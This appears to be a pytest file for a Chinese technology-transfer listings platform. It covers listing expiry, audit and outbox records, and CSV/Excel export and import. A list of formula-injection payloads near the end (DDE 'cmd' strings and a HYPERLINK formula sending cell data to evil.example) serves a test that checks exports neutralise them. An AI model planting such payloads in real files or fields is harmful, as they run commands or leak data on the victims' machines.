"""Expiry after the end date, exports of one's own listings, and the one change hook."""

import csv
import io
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from app.audit.models import AuditEntry
from app.core.vocabulary import TechnologyField
from app.listings.models import Achievement, Demand
from app.listings.service import expire_listings
from app.listings.vocabulary import IPKind, IPStatus, ListingStatus, TransferMode
from app.outbox.models import OutboxMessage


async def test_expiry_is_audited_and_announced(client, db, owner, make_listing):
    university = await owner("achievements")
    company = await owner("demands")
    soon = (date.today() + timedelta(days=3)).isoformat()
    due = await make_listing("achievements", university, valid_until=soon, title="将过期成果")
    lasting = await make_listing("achievements", university, title="长期有效成果")
    draft = await make_listing("achievements", university, publish=False, valid_until=soon)
    demand = await make_listing("demands", company, deadline=soon)
    counts = await expire_listings(db, today=date.today() + timedelta(days=4))
    await db.commit()
    assert counts == {"achievement": 1, "demand": 1}
    assert (await client.get(f"/api/v1/achievements/{due['id']}")).status_code == 404
    mine = (await client.get(f"/api/v1/achievements/{due['id']}", headers=university.headers)).json()
    assert mine["status"] == "expired" and mine["version"] == due["version"] + 1
    assert (await client.get(f"/api/v1/achievements/{lasting['id']}")).json()["status"] == "published"
    own_draft = await client.get(f"/api/v1/achievements/{draft['id']}", headers=university.headers)
    assert own_draft.json()["status"] == "draft"
    audits = (await db.execute(select(AuditEntry).where(AuditEntry.action == "expired"))).scalars().all()
    assert {a.object_id for a in audits} == {due["id"], demand["id"]}
    assert all(a.actor_user_id is None for a in audits)
    keys = (
        await db.execute(select(OutboxMessage.key).where(OutboxMessage.payload["action"].astext == "expired"))
    ).scalars()
    assert set(keys) == {f"achievement:{due['id']}", f"demand:{demand['id']}"}
    # Running again expires nothing more; an edit revives it as a draft to publish again.
    assert await expire_listings(db, today=date.today() + timedelta(days=4)) == {
        "achievement": 0,
        "demand": 0,
    }
    later = (date.today() + timedelta(days=90)).isoformat()
    revived = await client.patch(
        f"/api/v1/achievements/{due['id']}", json={"valid_until": later}, headers=university.headers
    )
    assert revived.json()["status"] == "draft"


async def test_every_change_goes_through_record_change(client, db, owner, signed_in, make_listing):
    who = await owner("demands")
    listing = await make_listing("demands", who)
    await client.patch(f"/api/v1/demands/{listing['id']}", json={"title": "改过的需求"}, headers=who.headers)
    await client.post(f"/api/v1/demands/{listing['id']}/close", headers=who.headers)
    audits = (
        (
            await db.execute(
                select(AuditEntry).where(AuditEntry.object_id == listing["id"]).order_by(AuditEntry.id)
            )
        )
        .scalars()
        .all()
    )
    assert [a.action for a in audits] == ["created", "published", "updated", "closed"]
    assert audits[2].changes == {"title": [listing["title"], "改过的需求"]}
    messages = (
        (
            await db.execute(
                select(OutboxMessage)
                .where(OutboxMessage.key == f"demand:{listing['id']}")
                .order_by(OutboxMessage.id)
            )
        )
        .scalars()
        .all()
    )
    assert [m.payload for m in messages] == [
        {"kind": "demand", "id": listing["id"], "action": action}
        for action in ("created", "published", "updated", "closed")
    ]
    assert {m.topic for m in messages} == {"listing.changed"}


async def test_a_rejected_change_records_nothing(client, db, owner, make_listing):
    who = await owner("achievements")
    listing = await make_listing("achievements", who)
    before = (await db.execute(select(AuditEntry.id))).scalars().all()
    response = await client.post(f"/api/v1/achievements/{listing['id']}/publish", headers=who.headers)
    assert response.status_code == 409
    assert (await db.execute(select(AuditEntry.id))).scalars().all() == before


async def test_export_own_listings(client, db, owner, make_listing):
    who = await owner("achievements")
    other = await owner("achievements")
    published = await make_listing(
        "achievements", who, title="本校成果", asking_price="1234.50", keywords=["甲", "乙"]
    )
    await make_listing("achievements", who, publish=False, title="本校草稿")
    await make_listing("achievements", other, title="他校成果")
    response = await client.get("/api/v1/achievements/export?format=csv", headers=who.headers)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert sorted(r["标题"] for r in rows) == ["本校成果", "本校草稿"]
    exported = next(r for r in rows if r["标题"] == "本校成果")
    assert exported["意向价格"] == "1234.50" and exported["关键词"] == "甲;乙"
    # Times as people in China read them, in the file as in the API, the same instant.
    shown = datetime.fromisoformat(exported["发布时间"])
    assert shown.utcoffset() == timedelta(hours=8)
    assert datetime.fromisoformat(published["published_at"]).utcoffset() == timedelta(hours=8)
    assert shown == datetime.fromisoformat(published["published_at"]).replace(microsecond=0)
    assert response.headers["content-disposition"].endswith(
        f'-{datetime.now(ZoneInfo("Asia/Shanghai")):%Y%m%d}.csv"'
    )

    response = await client.get("/api/v1/achievements/export?format=xlsx", headers=who.headers)
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][:3] == ("编号", "状态", "版本") and len(values) == 3
    assert (await client.get("/api/v1/achievements/export")).status_code == 401


FULL_ACHIEVEMENT = {
    "title": "谐波减速器柔轮精密加工工艺",
    "description": "柔轮一次装夹完成车、滚、磨，\n齿形误差小于 3 微米。",
    "field": TechnologyField.advanced_manufacturing,
    "keywords": ["谐波减速器", "柔轮", "精密加工"],
    "maturity": 7,
    "ip_rights": [
        {"kind": IPKind.invention_patent, "number": "ZL202010111222.3", "status": IPStatus.granted},
        {"kind": IPKind.utility_model, "number": "202120333444.5", "status": IPStatus.applied},
        {"kind": IPKind.technical_secret, "number": "", "status": IPStatus.granted},
    ],
    "transfer_modes": [TransferMode.license_exclusive, TransferMode.equity, TransferMode.pay_after_use],
    "asking_price": "800000.50",
    "region_code": "320102",
    "team": ["张三", "李四"],
    "application_scenarios": "工业机器人关节；精密转台",
    "publicly_funded": True,
    "funding_project": "国家重点研发计划 2021YFB0000000",
    "contacts": [
        {"name": "赵老师", "phone": "025-12345678", "email": "zhao@example.edu.cn"},
        {"name": "Li Lei", "phone": None, "email": "li@example.edu.cn"},
    ],
    "valid_until": "2030-12-31",
}
BIOMEDICAL = {
    "title": "一种植物源抗菌肽",
    "field": TechnologyField.biomedicine,  # its label 生物、医药和医疗器械 holds a list separator
    "keywords": ["=1+1"],
    "transfer_modes": [TransferMode.other],
    "publicly_funded": False,
}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
async def test_an_exported_catalogue_imports_back_unchanged(client, db, owner, make_listing, fmt):
    """The export writes Chinese columns and labels, IP rights and contacts as text, and the
    import reads exactly that: the file as exported, bookkeeping columns included, gives the same
    achievements to another organization."""
    who = await owner("achievements")
    originals = [
        await make_listing("achievements", who, **FULL_ACHIEVEMENT),
        await make_listing("achievements", who, publish=False, **BIOMEDICAL),
    ]
    exported = await client.get(f"/api/v1/achievements/export?format={fmt}", headers=who.headers)
    assert exported.status_code == 200
    text = (
        exported.content.decode("utf-8-sig")
        if fmt == "csv"
        else "\n".join(
            ",".join(str(v) for v in row)
            for row in load_workbook(io.BytesIO(exported.content)).worksheets[0].iter_rows(values_only=True)
        )
    )
    # What a person reads: Chinese columns and labels, no codes, no JSON.
    readable = (
        "标题",
        "技术领域",
        TechnologyField.advanced_manufacturing.label,
        TransferMode.license_exclusive.label,
        f"{IPKind.invention_patent.label} ZL202010111222.3（{IPStatus.granted.label}）",
        ListingStatus.published.label,
    )
    for shown in readable:
        assert shown in text
    codes = (TechnologyField.advanced_manufacturing, TransferMode.license_exclusive, IPKind.invention_patent)
    for code in (*(c.value for c in codes), '"kind"', "True"):
        assert code not in text

    second = await owner("achievements")
    response = await client.post(
        "/api/v1/achievements/import",
        files={"file": (f"back.{fmt}", exported.content)},
        headers=second.headers,
    )
    assert response.status_code == 201, response.text
    assert response.json()["created"] == 2
    copies = await db.execute(
        select(Achievement.title, Achievement.id).where(
            Achievement.owner_organization_id == second.user.organization_id
        )
    )
    ids = dict(copies.all())
    assert len(ids) == 2
    for original in originals:
        response = await client.get(f"/api/v1/achievements/{ids[original['title']]}", headers=second.headers)
        copy = response.json()
        for name in FULL_ACHIEVEMENT:
            assert copy[name] == original[name], name


async def test_demand_export_for_enterprises(client, db, owner, make_listing):
    who = await owner("demands")
    await make_listing("demands", who, budget_min="10.00", budget_max="20.00")
    await db.execute(update(Demand).values(confidential=True))
    await db.commit()
    response = await client.get("/api/v1/demands/export?format=csv", headers=who.headers)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["预算下限"] == "10.00" and rows[0]["保密"] == "是"


HOSTILE_TITLES = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


async def test_exports_hold_no_formulas(client, db, owner, make_listing):
    """Formula injection (OWASP CSV injection): a title or keyword a spreadsheet would run is
    exported as text, its first character behind an apostrophe, and imports back as it was."""
    who = await owner("achievements")
    for title in HOSTILE_TITLES:
        await make_listing("achievements", who, publish=False, title=title, keywords=["=1+1", "正常"])

    response = await client.get("/api/v1/achievements/export?format=csv", headers=who.headers)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert sorted(r["标题"] for r in rows) == sorted("'" + t for t in HOSTILE_TITLES)
    assert {r["关键词"] for r in rows} == {"'=1+1;正常"}
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for value in r.values())

    response = await client.get("/api/v1/achievements/export?format=xlsx", headers=who.headers)
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]  # not data_only: formulas stay formulas
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} == {"s"}  # every cell text: version and maturity too
    titles = [c.value for c in next(sheet.iter_cols(min_col=7, max_col=7, min_row=2))]
    assert sorted(titles) == sorted("'" + t for t in HOSTILE_TITLES)

    # The apostrophe is the export's: the file imports back with the titles as they were.
    sheet.delete_cols(1, 6)
    out = io.BytesIO()
    sheet.parent.save(out)
    second = await owner("achievements")
    response = await client.post(
        "/api/v1/achievements/import", files={"file": ("back.xlsx", out.getvalue())}, headers=second.headers
    )
    assert response.status_code == 201, response.text
    copies = (
        await db.execute(
            select(Achievement).where(Achievement.owner_organization_id == second.user.organization_id)
        )
    ).scalars()
    assert sorted((c.title, tuple(c.keywords)) for c in copies) == sorted(
        (t, ("=1+1", "正常")) for t in HOSTILE_TITLES
    )
